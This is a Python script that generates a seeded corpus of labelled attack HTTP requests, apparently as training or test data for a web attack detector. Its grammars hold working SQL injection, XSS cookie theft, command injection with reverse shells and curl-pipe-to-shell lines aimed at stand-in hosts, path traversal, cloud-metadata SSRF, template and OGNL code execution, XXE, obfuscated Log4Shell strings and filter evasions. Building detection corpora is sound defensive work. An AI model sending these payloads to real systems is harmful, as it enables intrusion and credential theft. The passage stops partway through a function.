#!/usr/bin/env python3
"""Generate the whole-request attack corpus (Python 3 standard library only, seeded).

    python3 scripts/corpus/gen_attacks.py [--seed 27] [--out crates/palisade-detect/data/requests/attacks.jsonl.gz]

Each line: {"id", "label": "attack", "class", "family", "app", "location", "request" | "request_base64"}.
`class` is what the row tests: a classic class (`sqli`, `xss`, ...) placed in one location, or
an evasion class (`base64`, `overlong-utf8`, `header-arbitrary`, ...) whose underlying attack is
`family`. `location` is where the attack is: path, query, form, json, xml, multipart, cookie,
header. Payloads are written here from grammars of the well-known forms of each attack (no
third-party list is copied).
"""

import argparse
import base64
import json
import random
import string

from httpgen import (SITES, WORDS, alnum, api_headers_plain, browser_headers, cookie_jar, pct, pick,
                     qs, request, reset_visitor, row, write_jsonl_gz)

# --- payload grammars ---------------------------------------------------------------------

def sqli(rng):
    pre = pick(rng, ["1", "1'", "1\"", "1)", "1')", "'", "-1", "admin'", "x'", "0", "1))", "abc\""])
    q = "'" if "'" in pre else ('"' if '"' in pre else "")
    core = pick(rng, [
        f" OR {q}1{q}={q}1", " OR 1=1", " AND 1=2", " or true", " OR 'a'='a", " || 1=1",
        " UNION SELECT username, password FROM users", " UNION ALL SELECT NULL,NULL,version()",
        " UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables",
        " AND SLEEP(5)", " AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "; WAITFOR DELAY '0:0:5'",
        " OR pg_sleep(5) IS NULL", "; SELECT pg_sleep(10)", " AND extractvalue(1,concat(0x7e,(SELECT database())))",
        " AND 1=CONVERT(int,(SELECT @@version))", " ORDER BY 5", "; DROP TABLE users", "; INSERT INTO admins VALUES ('x','y')",
        " AND updatexml(1,concat(0x3a,user()),1)", " OR benchmark(10000000,MD5(1))",
        " AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
        " AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64", " UNION SELECT load_file('/etc/passwd')",
        "; EXEC xp_cmdshell('whoami')", " AND 1 IN (SELECT COUNT(*) FROM sysobjects)", " HAVING 1=1", " GROUP BY id HAVING 1=1",
        "/**/UNION/**/SELECT/**/password/**/FROM/**/users", " UnIoN sElEcT 1,2,3", " AND 0x31=0x31", " OR 2>1",
        " AND (SELECT * FROM (SELECT(SLEEP(5)))x)", " RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"])
    suf = pick(rng, ["--", "-- -", "#", "/*", "", "", f" AND {q}1{q}={q}1" if q else " --", ";--"])
    return pre + core + suf


XSS_TAGS = [("img", "src=x "), ("svg", ""), ("body", ""), ("details", "open "), ("input", "autofocus "), ("video", "src=x "),
            ("iframe", ""), ("marquee", ""), ("audio", "src=x "), ("object", "data=x "), ("select", "autofocus "), ("a", "href=# ")]
XSS_EVENTS = {"img": "onerror", "svg": "onload", "body": "onload", "details": "ontoggle", "input": "onfocus", "video": "onerror",
              "iframe": "onload", "marquee": "onstart", "audio": "onerror", "object": "onerror", "select": "onfocus", "a": "onmouseover"}
XSS_CALLS = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm(document.cookie)", "fetch('//evil.example/?c='+document.cookie)",
             "eval(atob('YWxlcnQoMSk='))", "location='//evil.example/'+document.cookie", "import('//evil.example/x.js')"]


def xss(rng):
    r = rng.random()
    pre = pick(rng, ["", "\">", "'>", "</textarea>", "</title>", "-->", "\" ", "' "])
    call = pick(rng, XSS_CALLS)
    if r < 0.3:
        return pre + f"<script>{call}</script>"
    if r < 0.75:
        tag, attrs = pick(rng, XSS_TAGS)
        sep = pick(rng, [" ", "/", "\t"])
        return pre + f"<{tag}{sep}{attrs}{XSS_EVENTS[tag]}={call}>"
    if r < 0.85:
        return pick(rng, ["javascript:", "JaVaScRiPt:", "javascript://%0a"]) + call
    if r < 0.92:
        return pre + f"\" {pick(rng, ['onmouseover', 'onfocus autofocus onfocus', 'onclick'])}=\"{call}"
    return pre + pick(rng, [f"<iframe src=\"javascript:{call}\">", f"<a href=\"javascript:{call}\">click</a>",
                            f"<svg><script>{call}</script></svg>", f"<math><mtext><table><mglyph><style><img src=x onerror={call}>",
                            f"<form action=\"javascript:{call}\"><input type=submit>", f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"])


CMDS = ["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "cat /etc/shadow", "wget http://203.0.113.9/x.sh -O /tmp/x",
        "curl http://evil.example/s | sh", "nc -e /bin/sh 203.0.113.5 4444", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "sleep 10", "ping -c 10 127.0.0.1", "rm -rf /tmp/*", "python -c 'import os;os.system(\"id\")'", "perl -e 'print `id`'",
        "echo PWNED > /var/www/html/x.txt", "type C:\\Windows\\win.ini", "net user", "powershell -enc SQBFAFgA"]


def cmdi(rng):
    cmd = pick(rng, CMDS)
    form = pick(rng, ["; {c}", "| {c}", "|| {c}", "&& {c}", "& {c}", "`{c}`", "$({c})", "\n{c}", "%0a{c}", "127.0.0.1; {c}", "x|{c}|", "a;{c};#", "1 && {c} &&", "$(  {c}  )"])
    return form.replace("{c}", cmd).replace("%0a", "\n")


def traversal(rng, climbing=False):
    """A path that reaches a sensitive file; `climbing`: by climbing (`../`), as a path
    segment must (an absolute path or `file:` URL after a route is no traversal)."""
    depth = rng.randrange(3, 9)
    target = pick(rng, ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini",
                        "var/log/apache2/access.log", "root/.ssh/id_rsa", "WEB-INF/web.xml", "app/config/parameters.yml", ".env"])
    up = pick(rng, ["../", "..\\", "....//", "..;/", "%2e%2e/", "..%2f", "%2e%2e%2f", "..%5c", "..%252f", ".%2e/", "..\\/"])
    r = rng.random()
    if r < 0.15 and not climbing:
        return "/" + target
    if r < 0.25 and not climbing:
        return "file:///" + target
    if r < 0.35:
        return up * depth + target + pick(rng, ["%00", "%00.png", "\x00.jpg"])
    return pick(rng, ["", "/var/www/images/", "static/"]) + up * depth + target


SSRF_TARGETS = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://localhost/admin",
                "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd", "http://[::1]:8080/", "http://0x7f000001/", "http://2130706433/",
                "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "dict://127.0.0.1:11211/stats",
                "http://[::ffff:127.0.0.1]/", "http://127.1/", "http://0.0.0.0:22/", "http://100.100.100.200/latest/meta-data/",
                "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://localhost:2375/containers/json",
                "ftp://127.0.0.1/", "http://017700000001/", "http://instance-data/latest/"]


def ssrf(rng):
    return pick(rng, SSRF_TARGETS)


def ssti(rng):
    return pick(rng, ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
                      "{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}", "#{7*7}", "*{7*7}",
                      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                      "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
                      "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "{php}echo `id`;{/php}",
                      "${{<%[%'\"}}%\\.", "{{= 7*7 }}", "#set($x=7*7)${x}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
                      "{{lipsum.__globals__['os'].popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('whoami').read()}}"])


XXE_DOCS = ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]><data>1</data>',
            '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
            '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
            '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/evil.dtd"><x>y</x>',
            '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"> %xxe;]><foo/>',
            '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY ent SYSTEM "expect://id">]><root>&ent;</root>']


def xxe(rng):
    return pick(rng, XXE_DOCS)


def nosql(rng):
    return pick(rng, ['{"$gt": ""}', '{"$ne": null}', '{"$where": "sleep(5000)"}', "'; return true; var x='", '{"$regex": ".*"}',
                      '{"$or": [{}, {"a": "a"}]}', "this.password.match(/.*/)//", "1; while(true){}", '{"$nin": [1]}',
                      "' || '1'=='1", '{"$expr": {"$gt": [1, 0]}}', "admin' && this.password.match(/^a/)//"])


def ldap(rng):
    return pick(rng, ["*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)", "*)(|(objectClass=*)", "x)(|(cn=*))", "*))%00",
                      "admin)(!(&(1=0)(userPassword=q)))", "*()|&'", "*)(&(objectClass=user)(|(sAMAccountName=*)", "jdoe)(|(mail=*))"])


def crlf(rng):
    return pick(rng, ["foo\r\nSet-Cookie: admin=1", "/\r\nLocation: https://evil.example/", "x\r\n\r\n<script>alert(1)</script>",
                      "en\r\nX-Injected: 1", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "value\nSet-Cookie: sid=attacker"])


def log4shell(rng):
    proto = pick(rng, ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"])
    host = pick(rng, ["203.0.113.7:1389", "evil.example", "x.oast.example", "c0ffee.interact.example"])
    return pick(rng, ["${jndi:%s://%s/a}", "${jndi:%s://%s/Exploit}", "${jndi:%s://%s/${env:USER}}", "${jndi:%s://%s/${sys:java.version}}"]) % (proto, host)


FAMILIES = {"sqli": sqli, "xss": xss, "cmdi": cmdi, "path-traversal": traversal, "ssrf": ssrf, "ssti": ssti, "xxe": xxe,
            "nosql": nosql, "ldap": ldap, "crlf": crlf, "log4shell": log4shell}
PARAM_NAMES = {"sqli": ["id", "user", "order", "sort", "category", "q"], "xss": ["q", "name", "comment", "title", "message"],
               "cmdi": ["host", "ip", "cmd", "file", "domain"], "path-traversal": ["file", "path", "page", "template", "doc", "include"],
               "ssrf": ["url", "uri", "callback", "webhook", "image_url", "feed"], "ssti": ["name", "template", "greeting", "subject"],
               "xxe": ["xml", "data", "doc"], "nosql": ["username", "password", "filter", "where"], "ldap": ["user", "uid", "cn", "search"],
               "crlf": ["lang", "redirect", "next", "name"], "log4shell": ["q", "username", "search", "x"]}
HEADERS_INSPECTED = ["User-Agent", "Referer", "X-Forwarded-For"]
ARBITRARY_HEADERS = ["X-Api-Version", "X-Custom-Route", "X-Tenant-Id", "X-Debug", "X-Client-Data", "X-Requested-With", "X-Device",
                     "X-Forwarded-Prefix", "X-Original-URL", "X-Rewrite-URL", "True-Client-IP", "X-Real-IP", "Accept", "Accept-Language",
                     "Content-Type", "X-Wap-Profile", "If-None-Match", "Authorization", "X-Correlation-Id", "Forwarded", "Via", "From",
                     "X-Trace", "Api-Key", "X-HTTP-Method-Override", "Contact", "X-Ctx"]


# --- placing a value in a request -----------------------------------------------------------

def host_for(rng):
    return pick(rng, SITES)


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def headers(rng, host, content_type=None):
    if rng.random() < 0.6:
        return browser_headers(rng, host, dest="json", referer=f"https://{host}/{pick(rng, WORDS)}", cookie=cookie_jar(rng),
                               origin=f"https://{host}" if content_type else None, content_type=content_type, mode="cors")
    return api_headers_plain(rng, host, content_type)


def place(rng, loc, name, value, raw_encoded=None):
    """A request with `value` at `loc` under the field `name`. `raw_encoded` is the value as it
    goes on the wire in a URL-encoded location (overrides the client encoding: evasions)."""
    host = host_for(rng)
    enc = raw_encoded if raw_encoded is not None else pct(value)
    base = f"/api/{pick(rng, WORDS)}s"
    if loc == "path":
        seg = raw_encoded if raw_encoded is not None else pct(value, safe="/")
        return request("GET", f"{base}/{seg}", headers(rng, host))
    if loc == "query":
        extra = f"&{pick(rng, ['page', 'lang', 'limit'])}={rng.randrange(1, 50)}" if rng.random() < 0.5 else ""
        return request("GET", f"{base}?{name}={enc}{extra}", headers(rng, host))
    if loc == "form":
        body = f"{name}={enc}&{pick(rng, ['submit', 'action', 'lang'])}={pick(rng, ['Send', 'save', 'en'])}"
        return request("POST", base, headers(rng, host, "application/x-www-form-urlencoded"), body)
    if loc == "json":
        obj = {name: value, pick(rng, ["page", "limit", "locale"]): pick(rng, [1, 20, "en"])}
        return request("POST", base, headers(rng, host, "application/json"), json.dumps(obj, ensure_ascii=False))
    if loc == "xml":
        if value.lstrip().startswith("<") and ("<!DOCTYPE" in value or "xmlns:xi" in value or "<?xml" in value):
            body = value
        else:
            body = f'<?xml version="1.0" encoding="UTF-8"?><request><{name}>{xml_escape(value)}</{name}><page>1</page></request>'
        return request("POST", base, headers(rng, host, pick(rng, ["application/xml", "text/xml"])), body)
    if loc == "multipart":
        b = "----WebKitFormBoundary" + alnum(rng, 16)
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
                f"--{b}\r\nContent-Disposition: form-data; name=\"submit\"\r\n\r\nSend\r\n--{b}--\r\n")
        return request("POST", base, headers(rng, host, f"multipart/form-data; boundary={b}"), body)
    if loc == "cookie":
        h = [x for x in headers(rng, host) if x[0] != "Cookie"]
        jar = cookie_jar(rng)
        h.append(("Cookie", (jar + "; " if jar else "") + f"{name}={enc}"))
        return request("GET", base, h)
    if loc.startswith("header"):
        hname = loc.split(".", 1)[1]
        # A header value cannot hold control characters: they go percent-encoded, as attackers
        # send them.
        v = "".join(f"%{ord(c):02x}" if ord(c) < 0x20 or ord(c) == 0x7F else c for c in value)
        if hname == "Referer":
            v = f"https://{host_for(rng)}/search?q={enc}"
        h = [x for x in headers(rng, host) if x[0].lower() != hname.lower()]
        h.append((hname, v))
        return request("GET", base, h)
    raise ValueError(loc)


LOCATIONS = ["path", "query", "form", "json", "xml", "multipart", "cookie", "header"]


def classic(rng, family, loc):
    value = traversal(rng, climbing=True) if (family, loc) == ("path-traversal", "path") else FAMILIES[family](rng)
    name = pick(rng, PARAM_NAMES[family])
    if loc == "header":
        hname = pick(rng, HEADERS_INSPECTED)
        return place(rng, "header." + hname, name, value), "header"
    if loc == "json" and family == "nosql" and value.startswith("{"):
        host = host_for(rng)
        obj = {"username": "admin", name: json.loads(value)}
        return request("POST", "/api/login", headers(rng, host, "application/json"), json.dumps(obj)), "json"
    if loc == "query" and family == "nosql" and value.startswith("{"):
        op = json.loads(value)
        k = next(iter(op))
        host = host_for(rng)
        return request("GET", f"/api/users?username=admin&{name}[{pct(k)}]={pct(json.dumps(op[k]) if not isinstance(op[k], str) else op[k])}", headers(rng, host)), "query"
    return place(rng, loc, name, value), loc


# --- evasion classes --------------------------------------------------------------------------

def ev_header_arbitrary(rng):
    fam = pick(rng, ["sqli", "xss", "cmdi", "path-traversal", "ssti", "log4shell", "ssrf"])
    hname = pick(rng, ARBITRARY_HEADERS)
    v = FAMILIES[fam](rng)
    if hname == "Content-Type":
        fam, v = "el-ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"
    if hname == "Accept":
        fam, v = "path-traversal", "../../../../../../../../etc/passwd{{"
    return fam, "header", place(rng, "header." + hname, "x", v)


def ev_base64(rng):
    fam = pick(rng, ["sqli", "xss", "cmdi", "path-traversal", "ssti", "log4shell"])
    v = FAMILIES[fam](rng)
    b = base64.b64encode(v.encode()).decode()
    if rng.random() < 0.3:
        b = b.rstrip("=")
    loc = pick(rng, ["query", "form", "json", "cookie", "header.X-Data"])
    name = pick(rng, ["data", "payload", "q", "state", "token", "filter"])
    return fam, loc.split(".")[0], place(rng, loc, name, b)


def ev_overlong(rng):
    dots = pick(rng, ["%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%uff0e%uff0e", "%c0%2e%c0%2e", "%f0%80%80%ae%f0%80%80%ae", "%u002e%u002e"])
    slash = pick(rng, ["/", "%c0%af", "%e0%80%af", "%u2215", "%c1%9c", "%2f"])
    wire = (dots + slash) * rng.randrange(3, 8) + pick(rng, ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ"])
    loc = pick(rng, ["query", "form", "path"])
    return "path-traversal", loc, place(rng, loc, pick(rng, ["file", "path", "page"]), "", raw_encoded=wire)


def ev_json_in_json(rng):
    fam = pick(rng, ["sqli", "xss", "cmdi", "path-traversal", "ssti", "nosql"])
    inner = {pick(rng, ["q", "name", "filter", "file"]): FAMILIES[fam](rng)}
    layers = json.dumps(inner)
    if rng.random() < 0.3:
        layers = json.dumps({"wrapped": layers})
    return fam, "json", place(rng, "json", pick(rng, ["data", "payload", "state", "settings"]), layers)


ZW = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u00ad", "\u2060"]


def ev_zero_width(rng):
    fam = pick(rng, ["sqli", "sqli", "xss"])
    v = FAMILIES[fam](rng)
    words = ["UNION", "SELECT", "SLEEP", "script", "alert", "onerror", "OR", "AND", "FROM"]
    for w in words:
        for cand in (w, w.lower()):
            if cand in v and len(cand) > 1:
                cut = rng.randrange(1, len(cand))
                v = v.replace(cand, cand[:cut] + pick(rng, ZW) + cand[cut:], 1)
    if rng.random() < 0.3:
        v = v.replace("'", pick(rng, ["\\'", "''", "%27"]), 1)
    loc = pick(rng, ["query", "form", "json"])
    return fam, loc, place(rng, loc, pick(rng, PARAM_NAMES[fam]), v)


def ev_bracketed_name(rng):
    host = host_for(rng)
    r = rng.random()
    if r < 0.35:
        fam = "sqli"
        name = f"filter[{sqli(rng)}]"
    elif r < 0.55:
        fam = "xss"
        name = f"user[{xss(rng)}]"
    elif r < 0.8:
        fam = "code-injection"
        name, val = pick(rng, [("mail[#post_render][]", "exec"), ("name[#post_render][]", "passthru"), ("mail[#markup]", "id"),
                               ("form[#lazy_builder][0]", "system"), ("q[$(id)]", "1"), ("a[${7*7}]", "1"), ("x[__proto__][admin]", "true"),
                               ("constructor[prototype][isAdmin]", "true")])
        loc = pick(rng, ["query", "form"])
        extra = "&mail[#type]=markup" if "#" in name else ""
        target = f"/user/register?element_parents=account/mail/%23value&ajax_form=1" if "#" in name else f"/api/{pick(rng, WORDS)}s"
        wire = f"{pct(name, safe='[]')}={pct(val)}{extra}"
        if loc == "query":
            sep = "&" if "?" in target else "?"
            return fam, "query", request("GET", target + sep + wire, headers(rng, host))
        return fam, "form", request("POST", target, headers(rng, host, "application/x-www-form-urlencoded"), wire)
    else:
        fam = "cmdi"
        name = f"opts[{cmdi(rng)}]"
    loc = pick(rng, ["query", "form"])
    wire = f"{pct(name, safe='[]')}=1"
    if loc == "query":
        return fam, "query", request("GET", f"/api/{pick(rng, WORDS)}s?{wire}", headers(rng, host))
    return fam, "form", request("POST", f"/api/{pick(rng, WORDS)}s", headers(rng, host, "application/x-www-form-urlencoded"), wire)


def ev_path_normalisation(rng):
    host = host_for(rng)
    path = pick(rng, ["/app/..;/admin/", "/static/%2e%2e/%2e%2e/etc/passwd", "/.%2e/.%2e/.%2e/etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                      "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", "/api/v1/..;/..;/actuator/env", "/;/admin/users",
                      "/%2e/admin", "/images/..%252f..%252f..%252fetc/passwd", "/public/..%2f..%2f..%2fetc/passwd", "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
                      "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", "/manager/..;/html", "/.;/WEB-INF/web.xml", "/assets/..%5c..%5c..%5cwindows/win.ini",
                      "/docs/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/a/b/%2e%2e/%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "/jolokia/..;/..;/admin",
                      "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh"])
    return "path-traversal", "path", request("GET", path, headers(rng, host))


def ev_log4shell_obf(rng):
    host_ = pick(rng, ["evil.example/a", "203.0.113.7:1389/x", "x.oast.example/z"])
    v = pick(rng, ["${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s}", "${${lower:j}ndi:${lower:l}dap://%s}",
                   "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s}", "${j${k8s:k5:-ND}i:ldap://%s}",
                   "${${upper:j}ndi:ldap://%s}", "${jndi:${lower:l}${lower:d}a${lower:p}://%s}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s}",
                   "${jn${env::-}di:ldap://%s}", "${${sys:foo:-j}ndi:rmi://%s}", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://%s}",
                   "%%24%%7Bjndi:ldap://%s%%7D"]) % host_
    v = v.replace("%%", "%")
    loc = pick(rng, ["header.User-Agent", "header.X-Api-Version", "header.Referer", "query", "json", "form", "cookie"])
    return "log4shell", loc.split(".")[0], place(rng, loc, pick(rng, ["username", "q", "x"]), v)


def ev_shell_quoting(rng):
    v = pick(rng, ["c''at /e''tc/pa''sswd", "c\\at /etc/pa\\sswd", "ca$@t /etc/passwd", "/???/c?t /???/p??swd", "cat$u /etc$u/passwd",
                   "w'h'o'am'i", "{cat,/etc/passwd}", "cat${IFS}/etc/passwd", "c\"a\"t /etc/passwd", "$(printf 'id')", "/bin/c[a]t /etc/pass[w]d",
                   "who$()ami", "i\\d", "ca''t${IFS}/et''c/sha''dow", "$'\\x63\\x61\\x74' /etc/passwd", "cu''rl evil.example|s''h", "X=$'cat\\x20/etc/passwd'&&$X",
                   "w`echo h`oami", "/bin/bas?/???/ -c id", "ping${IFS}-c${IFS}5${IFS}127.0.0.1"])
    v = pick(rng, [";", "|", "&&", "`", "$(", "\n"]) + v + (")" if False else "")
    loc = pick(rng, ["query", "form", "json", "multipart"])
    return "cmdi", loc, place(rng, loc, pick(rng, PARAM_NAMES["cmdi"]), v)


def ev_js_no_parens(rng):
    v = pick(rng, ["<img src=x onerror=alert`1`>", "<svg onload=window?.alert?.(document[\"cookie\"])>", "<svg/onload=top[`al`+`ert`]`1`>",
                   "<img src=x onerror=throw onerror=alert,1>", "<x onclick=alert`1`>click", "<img src=x onerror=location=`javascript:alert\\x28document.cookie\\x29`>",
                   "<svg onload=self[`\\x61lert`]`1`>", "<img src=x on<x>error=alert(1)>", "<scr<x>ipt>alert(1)</scr<x>ipt>", "<svg onload=Function`a${atob`YWxlcnQoMSk=`}```>",
                   "\"><img src=x onerror=window.onerror=eval;throw'=alert\\x281\\x29'>", "<body onpageshow=alert`1`>", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
                   "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"behavior:url(x.htc)\">x</div>", "<p style=\"-moz-binding:url(//evil.example/x.xml#xss)\">",
                   "<style>@import 'javascript:alert(1)';</style>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"])
    loc = pick(rng, ["query", "form", "json", "multipart", "xml"])
    return "xss", loc, place(rng, loc, pick(rng, PARAM_NAMES["xss"]), v)


def ev_ssi(rng):
    v = pick(rng, ["<!--#exec cmd=\"id\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
                   "<!--#exec cgi=\"/cgi-bin/printenv\"-->", "<esi:include src=\"http://evil.example/\"/>", "<!--#include file=\"../../etc/passwd\"-->",
                   "<!--#config errmsg=\"x\"--><!--#exec cmd=\"cat /etc/passwd\"-->", "<esi:vars>$(HTTP_COOKIE)</esi:vars>"])
    loc = pick(rng, ["query", "form", "json", "header.User-Agent", "header.Referer"])
    return "ssi", loc.split(".")[0], place(rng, loc, pick(rng, ["name", "comment", "page"]), v)


def ev_el_ognl(rng):
    v = pick(rng, ["${T(java.lang.Runtime).getRuntime().exec(\"id\")}", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
                   "#{7*7}", "${applicationScope}", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${\"\".getClass().forName(\"java.lang.Runtime\")}",
                   "${facesContext.externalContext.request.getSession()}", "*{T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())}",
                   "${\\\"a\\\".getClass().forName(\\\"java.lang.Runtime\\\")}", "%{@java.lang.Runtime@getRuntime().exec('id')}", "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
                   "#{session.setAttribute(\"x\",\"y\")}", "${''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}",
                   "(#a=@java.lang.Runtime@getRuntime().exec('id'))", "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('id')}"])
    loc = pick(rng, ["query", "form", "json", "header.Content-Type", "header.X-Custom-Route", "path"])
    if loc == "header.Content-Type":
        return "el-ognl", "header", place(rng, loc, "x", v)
    return "el-ognl", loc.split(".")[0], place(rng, loc, pick(rng, ["name", "redirect", "message", "expr"]), v)


def ev_mail(rng):
    v = pick(rng, ["victim@example.com\r\nBcc: spam1@evil.example,spam2@evil.example", "user@example.com\nCc: list@evil.example",
                   "a@b.example>\r\nRCPT TO:<evil@evil.example>\r\nDATA\r\nSubject: hi", "INBOX\" \r\nA002 LOGOUT", "x\r\nA1 SELECT INBOX\r\nA2 FETCH 1:* (BODY[])",
                   "Subject\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "INBOX\r\n2 CAPABILITY", "me@example.com%0ABcc:all@evil.example",
                   "test\r\nMAIL FROM:<ceo@victim.example>", "\"a\r\nb\"@example.com\r\nX-Header: 1"])
    loc = pick(rng, ["form", "json", "query", "multipart"])
    return "mail-injection", loc, place(rng, loc, pick(rng, ["email", "to", "mailbox", "subject", "from"]), v.replace("%0A", "\n"))


def ev_argument(rng):
    v = pick(rng, ["--output=/var/www/html/shell.php", "-oProxyCommand=sh -c id", "--exec=id", "-o ProxyCommand=\"curl evil.example|sh\"",
                   "--upload-pack=touch /tmp/pwned", "--post-file=/etc/passwd", "-X POST -d @/etc/passwd http://evil.example", "--checkpoint-action=exec=sh x.sh",
                   "-e /bin/sh", "--config=http://evil.example/x", "-fPIC --help;id", "--use-compress-program=sh x", "-T /etc/passwd http://evil.example",
                   "--template=/etc/passwd", "-o /etc/cron.d/x"])
    loc = pick(rng, ["query", "form", "json"])
    return "argument-injection", loc, place(rng, loc, pick(rng, ["filename", "repo", "host", "url", "branch", "args"]), v)


def ev_redirect_ssrf(rng):
    v = pick(rng, ["//evil.example", "/\\evil.example", "https:evil.example", "@evil.example", "http://allowed.example@evil.example/", "http://[::ffff:169.254.169.254]/",
                   "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://localhost.localdomain/", "http://127.1/", "http://0/", "jar:http://evil.example!/", "netdoc:///etc/passwd",
                   "ldap://evil.example/", "tftp://evil.example/x", "\\\\evil.example\\share", "http://metadata/", "http://169.254.169.254%2f@good.example",
                   "///evil.example/%2f..", "/%09/evil.example", "https://good.example.evil.example/", "http://0177.0.0.1/", "http://[::]:22/", "javascript://good.example/%0aalert(1)"])
    loc = pick(rng, ["query", "form", "json"])
    return "open-redirect-ssrf", loc, place(rng, loc, pick(rng, ["redirect", "next", "url", "returnTo", "callback", "webhook", "continue"]), v)


def ev_scanner(rng):
    ua = pick(rng, ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000112)",
                    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Fuzz Faster U Fool v2.1.0-dev", "gobuster/3.6",
                    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                    "Wfuzz/3.1.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "feroxbuster/2.10.1",
                    "commix/v3.9-stable (https://commixproject.com)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 XSStrike",
                    "Arachni/v1.5.1", "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)", "Jorgee", "ZmEu", "dirbuster", "zgrab/0.x",
                    "Mozilla/5.0 (X11; Linux x86_64) Burp Suite Professional", "w3af.org", "Hydra v9.5", "dalfox/2.9.2", "Go-http-client/1.1 (katana)", "OpenVAS"])
    host = host_for(rng)
    h = [x for x in headers(rng, host) if x[0] != "User-Agent"] + [("User-Agent", ua)]
    path = pick(rng, ["/", "/wp-login.php", "/.env", "/admin/", "/api/v1/users?id=1", "/.git/config", "/server-status", "/phpmyadmin/", "/robots.txt"])
